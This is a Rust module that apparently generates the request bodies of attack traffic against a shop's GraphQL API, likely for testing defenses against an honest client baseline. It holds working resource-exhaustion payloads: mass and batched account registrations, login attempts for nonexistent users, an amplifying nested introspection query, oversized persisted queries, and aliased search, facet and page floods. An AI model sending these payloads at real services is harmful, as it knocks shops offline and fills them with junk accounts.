//! The request bodies of attacks.

use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::api::body;

/// The number of different bodies of one attack. Each request has one of them, chosen at random.
const VARIANTS: usize = 2_000;
/// The items of a batch: as many as a shop allows.
const BATCH: usize = 10;
const PASSWORD: &str = "tangerine harbour 57";

/// Lists 20 products, as the honest client does.
pub fn list() -> String {
    query("{productConnection(first:20){edges{node{_id name price quantity}}}}")
}

/// Lists 20 products.
pub fn lists() -> Vec<String> {
    vec![list()]
}

/// Registers a user.
pub fn registrations() -> Vec<String> {
    (0..VARIANTS)
        .map(|user| query(&format!("mutation{{{}}}", registration(user))))
        .collect()
}

/// Registers 50 users, in each item of a batch.
pub fn batches_of_registrations() -> Vec<String> {
    let item = |first: usize| {
        let fields: String = (first..first + 50)
            .map(|user| format!("a{user}:{} ", registration(user)))
            .collect();
        json!({ "query": format!("mutation{{{fields}}}") })
    };
    (0..100)
        .map(|number| batch(|index| item((number * BATCH + index) * 50)))
        .collect()
}

/// Signs users in that do not exist.
pub fn logins() -> Vec<String> {
    (0..VARIANTS)
        .map(|user| {
            query(&format!(
                "mutation{{login(username:\"nobody{user}\",password:\"{PASSWORD}\"){{access_token}}}}"
            ))
        })
        .collect()
}

/// Reads types through their fields and through their interfaces, level by level. The document has 649 bytes, and
/// its answer would have hundreds of megabytes.
pub fn introspection() -> Vec<String> {
    let level = |level: usize| {
        let next = level + 1;
        format!(
            " fragment F{level} on __Type{{name description fields{{name description type{{ofType{{...F{next}}}}}}}\
             interfaces{{possibleTypes{{...F{next}}}}}}}"
        )
    };
    let fragments: String = (1..6).map(level).collect();
    let last = "fragment F6 on __Type{name description}";
    vec![query(&format!(
        "{{__schema{{types{{...F1}}}}}}{fragments} {last}"
    ))]
}

/// Registers documents of 60 kB, as persisted queries.
pub fn persisted_queries() -> Vec<String> {
    (0..1_200)
        .map(|number| {
            let document = format!("{{__typename}} # {number} {}", "x".repeat(60_000));
            let digest = format!("{:x}", Sha256::digest(&document));
            let extensions = json!({ "persistedQuery": { "version": 1, "sha256Hash": digest } });
            json!({ "query": document, "extensions": extensions }).to_string()
        })
        .collect()
}

/// Counts facets under 45 filters, in each item of a batch.
pub fn batches_of_facets() -> Vec<String> {
    let item = |number: usize| json!({ "query": facets_of(number * 45, 45) });
    (0..50)
        .map(|number| batch(|index| item(number * BATCH + index)))
        .collect()
}

/// Counts facets under 10 filters.
pub fn facets() -> Vec<String> {
    (0..500)
        .map(|number| query(&facets_of(number * 10, 10)))
        .collect()
}

/// Searches and counts 24 times. No two requests are equal.
pub fn searches() -> Vec<String> {
    let search = |number: usize| {
        format!(
            "a{number}:productConnection(first:1,filter:{{search:\"description {}\",minPrice:{}}}){{totalCount}} ",
            number % 10,
            number % 5_000
        )
    };
    (0..VARIANTS)
        .map(|number| {
            let fields: String = (0..24).map(|field| search(number * 24 + field)).collect();
            query(&format!("{{{fields}}}"))
        })
        .collect()
}

fn facets_of(first: usize, filters: usize) -> String {
    let fields: String = (first..first + filters)
        .map(|price| {
            format!(
                "a{price}:productFacets(filter:{{minPrice:{price}}}){{total inStock manufacturers{{count}}}} "
            )
        })
        .collect();
    format!("{{{fields}}}")
}

/// Lists 100 products with all their texts 20 times, in each item of a batch.
pub fn batches_of_pages() -> Vec<String> {
    let item = |number: usize| json!({ "query": pages(number, 20) });
    (0..50)
        .map(|number| batch(|index| item(number * BATCH + index)))
        .collect()
}

/// Lists 100 products with all their texts 20 times.
pub fn large_pages() -> Vec<String> {
    (0..100).map(|number| query(&pages(number, 20))).collect()
}

/// Lists 100 products with all their texts, some times.
pub fn pages(number: usize, times: usize) -> String {
    let fields: String = (0..times)
        .map(|alias| {
            let price = number % 100 + alias;
            format!(
                "a{alias}:productConnection(first:100,filter:{{minPrice:{price}}},sort:{{key:NAME}}){{edges{{node{{_id name price quantity description manufacturer slug}}}}}} "
            )
        })
        .collect();
    format!("{{{fields}}}")
}

fn registration(user: usize) -> String {
    format!("registerUser(input:{{username:\"user{user}\",password:\"{PASSWORD}\"}}){{access_token}}")
}

fn query(text: &str) -> String {
    body(text, &Value::Null)
}

fn batch(item: impl Fn(usize) -> Value) -> String {
    Value::from_iter((0..BATCH).map(item)).to_string()
}
